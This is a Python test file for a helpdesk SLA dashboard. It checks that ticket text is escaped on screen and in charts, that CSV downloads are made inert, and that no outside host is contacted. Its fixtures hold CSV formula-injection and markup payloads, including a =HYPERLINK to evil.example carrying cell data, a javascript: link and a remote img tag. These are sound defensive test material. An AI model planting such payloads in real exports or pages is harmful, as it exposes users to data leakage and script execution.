"""Ticket text is written by anyone who can type into the helpdesk: it is never interpreted on screen,
and the downloads never carry a live spreadsheet formula taken from it.

The fixture database gets breached Acme tickets whose id, team, category, agent and channel begin
with a formula character (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab) or hold Markdown and HTML
(an image, a link, a tag, a Streamlit icon directive), and an uncovered client of such a name.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil

import polars as pl
import pytest

from slametrics.db import connect
from slametrics.ingest import ingest_frames
from slametrics.output import FORMULA_STARTS
from slametrics.policy import load_policy
from tests.dashboard.helpers import open_page, plain

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1"]
MARKUP = ["![x](http://evil.example/team.png)", "[click](javascript:alert(1))", "<img src=http://evil.example/a.png>",
          ":material/home: **bold** $x^2$"]
#: what would show that Markdown or HTML was left to be interpreted: an unescaped image, link, tag or directive
LIVE = ("![", "](", "<img", ":material/home:", "**bold**", "$x^2$")


@pytest.fixture
def hostile_env(app_env, tmp_path, monkeypatch):
    db = tmp_path / "hostile.duckdb"
    shutil.copy(app_env[0], db)
    rows = [{"ticket_id": f"{text}#{i}", "client": "Acme", "priority": "P1",
             "created_at": f"2026-03-0{i + 1}T10:00:00Z", "first_response_at": f"2026-03-0{i + 1}T15:00:00Z",
             "resolved_at": f"2026-03-0{i + 1}T20:00:00Z", "team": text, "category": text, "agent": text,
             "channel": text} for i, text in enumerate(HOSTILE)]
    rows += [{"ticket_id": f"M-{i}", "client": "Acme", "priority": "P1", "created_at": f"2026-03-1{i}T10:00:00Z",
              "first_response_at": f"2026-03-1{i}T15:00:00Z", "resolved_at": f"2026-03-1{i}T20:00:00Z",
              "team": text, "category": text, "agent": text, "channel": text} for i, text in enumerate(MARKUP)]
    rows.append({"ticket_id": "X-1", "client": MARKUP[0], "priority": "P1", "created_at": "2026-03-20T10:00:00Z"})
    con = connect(db)
    try:
        ingest_frames(con, pl.DataFrame(rows), None, source="hostile.csv", policy=load_policy(app_env[1]))
    finally:
        con.close()
    monkeypatch.setenv("SLA_DB", str(db))
    yield db


def live_formulas(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]


def test_no_download_carries_a_live_formula(hostile_env, downloads):
    at = open_page("breaches", user="pat")
    at.get("download_button")[0].click().run()  # so that the audit log holds a download entry too
    at.switch_page("pages/data.py").run()
    files = dict(downloads)
    breaches = files["breaches-acme-2026-01-to-2026-03.csv"]
    assert not live_formulas(breaches)
    assert not live_formulas(files["audit-log.csv"])
    rows = list(csv.DictReader(io.StringIO(breaches)))
    hostile = [r for r in rows if r["ticket_id"].startswith("'")]  # every cell is kept, made inert
    # (ingest trims surrounding whitespace: the tab-led value is stored as "=1")
    assert sorted(r["ticket_id"] for r in hostile) == sorted(f"'{t.strip()}#{i}" for i, t in enumerate(HOSTILE) for _ in (1, 2))
    for r in hostile:
        assert r["team"] == r["category"] == r["agent"] == r["channel"] == r["ticket_id"].rsplit("#", 1)[0]
    # 5h to answer a 30m P1 response, 10h to resolve an 8h P1 (round the clock): the figures are untouched
    assert sorted({r["overrun_seconds"] for r in hostile}) == ["16200", "7200"]


def markdown_sources(at) -> list[str]:
    """The source of everything Streamlit renders as Markdown on the page and in the sidebar."""
    out = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success"):
        out += [str(e.value) for e in at.get(kind)]
    out += [m.label for m in at.metric]
    return out


@pytest.mark.parametrize("page", [None, "trends", "breaches", "credits", "whatif", "data", "policy"])
def test_ticket_text_is_shown_as_text_on_every_page(hostile_env, page):
    # the hostile values are also chosen in the filters, so they reach the captions that name a view
    at = open_page(page, user="pat", team=[MARKUP[0], MARKUP[2]], category=[MARKUP[1]], channel=[MARKUP[3]])
    sources = markdown_sources(at)
    assert sources
    unescaped = [re.sub(r"\\.", "", s) for s in sources]  # what Markdown would still act on
    live = [s for s in unescaped if any(mark in s for mark in LIVE)]
    assert not live, live
    if page in (None, "trends", "breaches"):
        assert any("evil\\.example" in s for s in sources)  # the values are there, escaped
    if page == "data":
        assert any("\\!\\[x\\]" in w.value for w in at.warning)  # the uncovered client's name


@pytest.mark.parametrize("page", [None, "trends", "breaches", "credits", "whatif", "policy"])
def test_ticket_text_in_charts_is_escaped_and_never_a_hover_template(hostile_env, page):
    from tests.dashboard.helpers import figures

    at = open_page(page, user="pat", breach_by="team")
    for spec in figures(at):
        text = json.dumps(spec)
        assert "<img" not in text and "evil.example/a.png>" not in text, spec["layout"]["title"]["text"]
        for trace in spec["data"]:
            assert "evil" not in trace.get("hovertemplate", ""), trace.get("hovertemplate")
    if page == "breaches":
        pareto = [s for s in figures(at) if s["layout"]["title"]["text"].startswith("Where breaches happen")][0]
        assert "&lt;img src=http://evil.example/a.png&gt;" in pareto["data"][0]["x"]


@pytest.mark.browser
def test_in_a_real_browser_ticket_text_fetches_nothing_from_another_host(hostile_env, app_env, tmp_path):
    from pathlib import Path
    from urllib.parse import urlparse

    from tests.dashboard.browser import CHROMIUM, LAUNCH_ARGS, _settle, serve, sign_in
    from tests.dashboard.fixture import password

    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is missing: `./run tests` installs Debian's chromium")
    from playwright.sync_api import sync_playwright

    env = {"SLA_DB": str(hostile_env), "SLA_POLICY": str(app_env[1]), "SLA_ACCESS": str(app_env[0].parent / "access.yaml"),
           "SLA_AUDIT": str(tmp_path / "audit.jsonl"), "SLA_LOG_DIR": str(tmp_path)}
    with serve(env) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=LAUNCH_ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 900})
        elsewhere: list[str] = []
        page.on("request", lambda r: elsewhere.append(r.url) if urlparse(r.url).hostname not in ("127.0.0.1",) else None)
        page.goto(url, wait_until="domcontentloaded")
        _settle(page, 90_000)
        sign_in(page, "pat", password("pat"))
        shown = []
        for path in ("", "trends", "breaches", "data"):
            page.goto(f"{url}/{path}", wait_until="domcontentloaded")
            _settle(page, 90_000)
            page.wait_for_selector("h1", timeout=90_000)
            page.wait_for_timeout(1500)  # charts and images would be fetched by now
            shown.append(page.locator('[data-testid="stMain"]').inner_text())
        browser.close()
    assert not elsewhere, elsewhere
    assert not any(page_text.count("evil.example") == 0 for page_text in shown[2:]), "the values are shown as text"


def test_a_bug_shows_a_short_message_with_a_reference_and_the_traceback_only_in_the_server_log(app_env, monkeypatch):
    import logging

    from ui import data

    def broken(*args, **kwargs):
        raise RuntimeError("boom in /srv/slametrics/secret_module.py")

    monkeypatch.setattr(data, "clocks", broken)
    logged: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = logged.append
    logger = logging.getLogger("slametrics.dashboard")
    logger.addHandler(handler)
    try:
        at = open_page("trends")
    finally:
        logger.removeHandler(handler)
    assert not at.exception
    shown = [e.value for e in at.error]
    references = [m.group(1) for m in map(re.compile(r"reference \*\*([0-9A-F]{8})\*\*").search, shown) if m]
    assert references, shown
    on_screen = [plain(str(e.value)) for kind in ("markdown", "error", "caption", "warning", "info")
                 for e in getattr(at, kind)]
    assert not any("boom" in text or "/srv" in text or "Traceback" in text for text in on_screen), on_screen
    records = [r for r in logged if r.levelno == logging.ERROR]
    assert [r.getMessage() for r in records][-1] == f"unexpected error, reference {references[-1]} (user pat)"
    assert "boom in /srv/slametrics/secret_module.py" in str(records[-1].exc_info[1])
